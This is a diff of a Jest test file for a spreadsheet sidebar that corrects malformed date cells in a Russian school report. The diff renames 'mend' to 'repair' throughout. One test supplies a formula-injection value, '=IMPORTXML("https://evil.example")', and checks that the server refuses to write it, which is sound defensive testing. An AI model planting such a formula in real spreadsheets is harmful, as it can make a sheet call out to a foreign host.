@@ -1,6 +1,6 @@
-/** «Что здесь писать?»: help for the selected cell, and mending where it is certain. */
+/** «Что здесь писать?»: help for the selected cell, and repairing where it is certain. */
 import { describe, expect, test } from '@jest/globals';
-import type { Mend, Selection } from '../../src/contract/school';
+import type { CellRepair, Selection } from '../../src/contract/school';
 import { EKATERINBURG, HEAD, makeOffice, reportingTab, reportOf, sheetState, type Tab } from './office';
 import { ask, date, get, refused } from './sidebarCalls';
 
@@ -28,7 +28,7 @@ function paste(tab: Tab, cell: string, text: string): void {
   const place = /^([A-Z])(\d+)$/.exec(cell);
   sheet.setScalar(sheet.row(Number(place?.[2])), (place?.[1] ?? 'A').charCodeAt(0) - 64, text);
 }
-const mendOf = ({ sheetId, cell, value, certain }: Selection): Mend => ({
+const repairOf = ({ sheetId, cell, value, certain }: Selection): CellRepair => ({
   ...{ sheetId, cell, seen: value },
   value: certain?.value ?? '',
 });
@@ -85,7 +85,7 @@ describe('the selected cell', () => {
     expect(select(coverage, 'A2').problem?.expected).toContain('организация');
     paste(coverage, 'A2', 'Школа-образец № 4');
     expect(select(coverage, 'A2').problem).toBeNull();
-    expect(select(coverage, 'B2').problem?.mend).toContain('Заполните');
+    expect(select(coverage, 'B2').problem?.repair).toContain('Заполните');
   });
 
   test('costs few calls: it is asked every three seconds', () => {
@@ -94,7 +94,7 @@ describe('the selected cell', () => {
   });
 });
 
-describe('what is wrong, and the button that mends it', () => {
+describe('what is wrong, and the button that repairs it', () => {
   const cell = () => report().cell(row(), 'Дата выполнения');
 
   test('a date as text becomes a date, in that cell alone', () => {
@@ -106,8 +106,8 @@ describe('what is wrong, and the button that mends it', () => {
       certain: { value: date('2020-09-25'), shown: '25.09.2020' },
     });
     const before = sheetState(report().view.sheet) as { rows: unknown[] };
-    const { run } = ask(office, 'sidebarMend', [mendOf(selection)]);
-    expect(run.result).toEqual({ ok: true, mended: true });
+    const { run } = ask(office, 'sidebarRepair', [repairOf(selection)]);
+    expect(run.result).toEqual({ ok: true, repaired: true });
     expect(run.meter.cellsWritten).toBe(1);
     expect(report().at(row(), 'Состояние')).toBe('сдано в срок');
     const after = sheetState(report().view.sheet) as { rows: unknown[] };
@@ -118,15 +118,15 @@ describe('what is wrong, and the button that mends it', () => {
     expect(look('Дата выполнения')).toMatchObject({ problem: null, certain: null });
   });
 
-  test('what only a person can decide is said, not mended', () => {
+  test('what only a person can decide is said, not repaired', () => {
     for (const text of ['25.09', 'вчера', '25.09.2030', '31.02.2020']) {
       paste(report(), cell(), text);
       const selection = look('Дата выполнения');
       expect(selection.problem).not.toBeNull();
       expect(selection.certain).toBeNull();
-      expect(refused(office, 'sidebarMend', [{ ...mendOf(selection), value: date('2020-09-25') }])).toContain(
-        'нельзя',
-      );
+      expect(
+        refused(office, 'sidebarRepair', [{ ...repairOf(selection), value: date('2020-09-25') }]),
+      ).toContain('нельзя');
       expect(report().at(row(), 'Дата выполнения')).toBe(text);
     }
   });
@@ -135,25 +135,25 @@ describe('what is wrong, and the button that mends it', () => {
     paste(report(), cell(), '25.09.20');
     const selection = look('Дата выполнения');
     paste(report(), cell(), '26.09.20');
-    expect(get(office, 'sidebarMend', [mendOf(selection)]).mended).toBe(false);
+    expect(get(office, 'sidebarRepair', [repairOf(selection)]).repaired).toBe(false);
     expect(report().at(row(), 'Дата выполнения')).toBe('26.09.20');
   });
 
-  test('pressed twice it is mended once', () => {
+  test('pressed twice it is repaired once', () => {
     paste(report(), cell(), '25.09.20');
-    const mend = mendOf(look('Дата выполнения'));
-    get(office, 'sidebarMend', [mend]);
-    expect(ask(office, 'sidebarMend', [mend]).run.meter.cellsWritten).toBe(0);
+    const repair = repairOf(look('Дата выполнения'));
+    get(office, 'sidebarRepair', [repair]);
+    expect(ask(office, 'sidebarRepair', [repair]).run.meter.cellsWritten).toBe(0);
   });
 
   test('another value than the certain one is not written, whoever asks', () => {
     paste(report(), cell(), '25.09.20');
-    const mend = { ...mendOf(look('Дата выполнения')), value: '=IMPORTXML("https://evil.example")' };
-    expect(refused(office, 'sidebarMend', [mend])).toContain('нельзя');
+    const repair = { ...repairOf(look('Дата выполнения')), value: '=IMPORTXML("https://evil.example")' };
+    expect(refused(office, 'sidebarRepair', [repair])).toContain('нельзя');
     expect(report().at(row(), 'Дата выполнения')).toBe('25.09.20');
   });
 
-  test('the result of a formula is not mended, and a cell of others is not offered', () => {
+  test('the result of a formula is not repaired, and a cell of others is not offered', () => {
     curator.type(report().place, cell(), '="25.09."&"20"');
     expect(look('Дата выполнения')).toMatchObject({ problem: {}, certain: null });
     curator.type(report().place, cell(), '');
@@ -162,8 +162,8 @@ describe('what is wrong, and the button that mends it', () => {
     expect(look('Продлено до')).toMatchObject({ problem: {}, certain: null });
     const asHead = get(office, 'sidebarSelection', [], { user: HEAD });
     expect(asHead.certain?.value).toEqual(date('2020-10-05'));
-    expect(refused(office, 'sidebarMend', [mendOf(asHead)])).toContain('защищена');
-    expect(get(office, 'sidebarMend', [mendOf(asHead)], { user: HEAD }).mended).toBe(true);
+    expect(refused(office, 'sidebarRepair', [repairOf(asHead)])).toContain('защищена');
+    expect(get(office, 'sidebarRepair', [repairOf(asHead)], { user: HEAD }).repaired).toBe(true);
     head.type(report().place, extended, '');
   });
 
@@ -173,7 +173,7 @@ describe('what is wrong, and the button that mends it', () => {
     paste(report(), cell(), '25.09.20');
     const selection = look('Дата выполнения');
     const mine = () => report().at(row(), 'Дата выполнения');
-    const { answer } = ask(office, 'sidebarMend', [mendOf(selection)], {
+    const { answer } = ask(office, 'sidebarRepair', [repairOf(selection)], {
       faults: [
         { at: { kind: 'Range.setValues' }, meanwhile: () => administrator.insertRows(report().place, 3) },
       ],
@@ -184,7 +184,7 @@ describe('what is wrong, and the button that mends it', () => {
       sentence: expect.stringContaining('переставляют'),
     });
     expect([report().at(row() - 1, 'Дата выполнения'), mine()]).toEqual(['20.09.2020', '25.09.20']);
-    expect(get(office, 'sidebarMend', [mendOf(look('Дата выполнения'))]).mended).toBe(true);
+    expect(get(office, 'sidebarRepair', [repairOf(look('Дата выполнения'))]).repaired).toBe(true);
     expect(mine()).toBe('25.09.2020');
   });
 });
